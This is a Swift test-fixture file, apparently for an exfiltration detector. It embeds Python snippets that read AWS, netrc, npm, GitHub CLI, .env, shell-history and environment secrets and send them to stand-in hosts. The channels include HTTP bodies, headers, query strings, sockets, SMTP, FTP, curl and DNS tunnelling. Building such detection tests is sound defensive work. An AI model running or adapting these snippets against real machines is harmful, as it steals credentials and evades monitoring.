import Evidence

extension HostileCase {
  /// What is sent, and how it is wrapped.
  static let bodies: [HostileCase] = [
    HostileCase(
      "json_over_tls", [.touched, .taintedEgress, .proven],
      decoys: ["aws-shared-credentials", "netrc", "npm", "github-cli"],
      words: ["collect.example.org", "443/tcp", "TLS", "POST /v1/in", "~/.aws/credentials", "raw", "bytes", "SHA-256"],
      """
      import json, loot
      haul = {name: loot.raw(name).decode() for name in ('.aws/credentials', '.netrc', '.npmrc', '.config/gh/hosts.yml')}
      loot.post(json.dumps(haul).encode(), 'https://collect.example.org/v1/in', {'Content-Type': 'application/json'})
      """, honest: reporter),
    HostileCase(
      "base64_in_path", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
      words: ["base64", "head"],
      """
      import base64, loot, urllib.request
      urllib.request.urlopen('http://collect.example.org/p/' + base64.urlsafe_b64encode(loot.secret()).decode())
      """, honest: reporter),
    HostileCase(
      "base64_in_header", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["base64", "head"],
      """
      import base64, loot
      loot.post(b'ok', headers={'X-Trace': base64.b64encode(loot.raw('.netrc')).decode()})
      """, honest: reporter),
    HostileCase(
      "user_agent", [.touched, .taintedEgress, .proven], decoys: ["npm"], words: ["raw", "head"],
      """
      import loot
      loot.post(b'ok', headers={'User-Agent': 'pip/24.0 ' + loot.raw('.npmrc').decode().splitlines()[0]})
      """, honest: reporter),
    HostileCase(
      "query", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: ["hex"],
      """
      import loot, urllib.request
      urllib.request.urlopen('http://collect.example.org/pixel.gif?v=' + loot.secret().hex())
      """, honest: reporter),
    HostileCase(
      "cut_over_requests", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
      words: ["exchanges"],
      """
      import loot, urllib.request
      for piece in loot.pieces(loot.secret().hex(), 10): urllib.request.urlopen('http://collect.example.org/q?d=' + piece)
      """, honest: reporter),
    HostileCase(
      "chunked", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: ["raw"],
      """
      import http.client, loot
      c = http.client.HTTPConnection('collect.example.org')
      c.request('POST', '/in', body=iter(loot.pieces(loot.aws(), 7)), encode_chunked=True, headers={'Transfer-Encoding': 'chunked'})
      c.getresponse().read()
      """, honest: reporter),
    HostileCase(
      "gzip_body", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: [],
      """
      import gzip, loot
      loot.post(gzip.compress(loot.aws()), headers={'Content-Encoding': 'gzip'})
      """, honest: reporter),
    HostileCase(
      "zip_in_base64", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["base64 > zip"],
      """
      import base64, io, loot, zipfile
      buffer = io.BytesIO()
      with zipfile.ZipFile(buffer, 'w', zipfile.ZIP_DEFLATED) as z: z.writestr('n', loot.raw('.netrc'))
      loot.post(b'data=' + base64.b64encode(buffer.getvalue()))
      """, honest: reporter),
    HostileCase(
      "multipart", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: ["raw"],
      """
      import loot
      b = b'--x\\r\\nContent-Disposition: form-data; name="f"; filename="a.txt"\\r\\n\\r\\n' + loot.aws() + b'\\r\\n--x--\\r\\n'
      loot.post(b, headers={'Content-Type': 'multipart/form-data; boundary=x'})
      """, honest: reporter),
    HostileCase(
      "web_socket", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: ["frames"],
      """
      import loot, os, socket, struct
      s = socket.create_connection(('collect.example.org', 80))
      s.sendall(b'GET /ws HTTP/1.1\\r\\nHost: collect.example.org\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n'
        b'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n')
      s.recv(4096)
      data = loot.aws()
      mask = os.urandom(4)
      s.sendall(bytes([0x82, 0xFE]) + struct.pack('>H', len(data)) + mask + bytes(c ^ mask[n % 4] for n, c in enumerate(data)))
      s.shutdown(socket.SHUT_WR)
      s.recv(4096)
      """),
    HostileCase(
      "two_sockets", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
      words: ["cut into several"],
      """
      import loot, socket
      for piece in loot.pieces(loot.secret(), 9): socket.create_connection(('203.0.113.20', 9000)).sendall(piece)
      """),
    HostileCase(
      "raw_tcp", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["203.0.113.9 port 4444/tcp", "raw"],
      """
      import loot, socket
      with socket.create_connection(('203.0.113.9', 4444)) as s: s.sendall(loot.raw('.netrc'))
      """),
    HostileCase(
      "raw_udp", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["203.0.113.9 port 5555/udp", "raw"],
      """
      import loot, socket
      with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(loot.raw('.netrc'), ('203.0.113.9', 5555))
      """),
    HostileCase(
      "ipv6", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["2001:db8::9"],
      """
      import loot, socket
      with socket.create_connection(('2001:db8::9', 4444)) as s: s.sendall(loot.raw('.netrc'))
      """),
    HostileCase(
      "mail", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["mail.example.org", "port 25/tcp"],
      """
      import loot, smtplib
      from email.message import EmailMessage
      m = EmailMessage()
      m['From'], m['To'], m['Subject'] = 'a@example.org', 'b@example.org', 'report'
      m.set_content('see below')
      m.add_attachment(loot.raw('.netrc'), maintype='application', subtype='octet-stream', filename='r.bin')
      with smtplib.SMTP('mail.example.org') as s: s.send_message(m)
      """),
    HostileCase(
      "file_transfer", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["raw"],
      """
      import ftplib, io, loot
      f = ftplib.FTP('files.example.org', 'anonymous', 'a@example.org')
      f.storbinary('STOR x', io.BytesIO(loot.raw('.netrc')))
      f.close()
      """),
    HostileCase(
      "http2", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["https2.example.org", "TLS"],
      """
      import loot, subprocess
      subprocess.run(['curl', '-s', '--http2', '-X', 'POST', '--data-binary', '@-', 'https://https2.example.org/in'], input=loot.raw('.netrc'))
      """, honest: reporter),
    HostileCase(
      "environment", [.proven], decoys: ["openai-environment"], words: ["$ANTHROPIC_API_KEY", "raw"],
      """
      import json, loot, os
      loot.post(json.dumps(dict(os.environ)).encode())
      """, honest: reporter),
    HostileCase(
      "dotenv_and_history", [.touched, .taintedEgress, .proven], decoys: ["dotenv", "bash-history"], words: [],
      """
      import glob, loot
      found = glob.glob(loot.home + '/code/*/.env') + [loot.home + '/.bash_history']
      loot.post(b''.join(open(name, 'rb').read() for name in found))
      """, honest: reporter),
    HostileCase(
      "standard_output", [.touched, .proven], decoys: ["aws-shared-credentials"], words: ["standard output"],
      "import loot; print(loot.aws().decode())", honest: "print('aws_secret_access_key =', 'none')"),
  ]

  /// Names that are looked up.
  static let names: [HostileCase] = [
    HostileCase(
      "names_in_hex", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
      words: ["names that were looked up"],
      """
      import loot, socket
      for piece in loot.pieces(loot.secret().hex(), 50):
        try: socket.getaddrinfo(piece + '.n.example.org', 80)
        except OSError: pass
      """, honest: "import socket; socket.getaddrinfo('www.example.org', 80)"),
    HostileCase(
      "names_split", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
      words: ["labels(example.org"],
      "import loot; loot.ask(*(b'%d.' % n + piece + b'.n.example.org' for n, piece in enumerate(loot.pieces(loot.secret(), 6))))",
      honest: "import loot; loot.ask(b'a.www.example.org', b'b.www.example.org')"),
    HostileCase(
      "names_of_mixed_case", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: ["base32"],
      """
      import base64, loot, random
      text = base64.b32encode(loot.secret()).rstrip(b'=').decode()
      mixed = ''.join(random.choice((c.lower(), c.upper())) for c in text).encode()
      loot.ask(*(piece + b'.N.eXample.oRg' for piece in loot.pieces(mixed, 20)))
      """, honest: "import loot; loot.ask(b'wWw.ExAmPle.Org')"),
    HostileCase(
      "names_folded", [.touched, .taintedEgress, .proven], decoys: ["netrc"],
      words: ["names that were looked up", "lower case"],
      """
      import loot, random
      password = [w.split()[1] for w in loot.raw('.netrc').decode().splitlines() if 'password' in w][0]
      hidden = ''.join(random.choice((c.lower(), c.upper())) for c in password if c.isalnum())
      loot.ask(hidden.encode() + b'.n.example.org')
      """, honest: "import loot; loot.ask(b'wWw.ExAmPle.Org')"),
    HostileCase(
      "names_over_tcp", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
      words: ["names that were looked up"],
      """
      import loot, socket, struct
      with socket.create_connection(('192.0.2.53', 53)) as s:
        for piece in loot.pieces(loot.secret().hex().encode(), 40):
          q = loot.query(piece + b'.n.example.org', 16)
          s.sendall(struct.pack('>H', len(q)) + q)
          s.recv(512)
      """),
    HostileCase(
      "names_over_tls", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
      words: ["names that were looked up over TLS"],
      """
      import loot, socket, ssl, struct
      with ssl.create_default_context().wrap_socket(socket.create_connection(('9.9.9.9', 853)), server_hostname='dns.example.org') as s:
        q = loot.query(b'.'.join(loot.pieces(loot.secret().hex().encode(), 40)) + b'.n.example.org', 16)
        s.sendall(struct.pack('>H', len(q)) + q)
        s.recv(512)
      """),
    HostileCase(
      "names_over_https", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
      words: ["example.org"],
      """
      import loot
      name = b'.'.join(loot.pieces(loot.secret().hex().encode(), 40)) + b'.n.example.org'
      loot.post(loot.query(name), 'https://dns.example.org/dns-query', {'Content-Type': 'application/dns-message'})
      """),
  ]
}
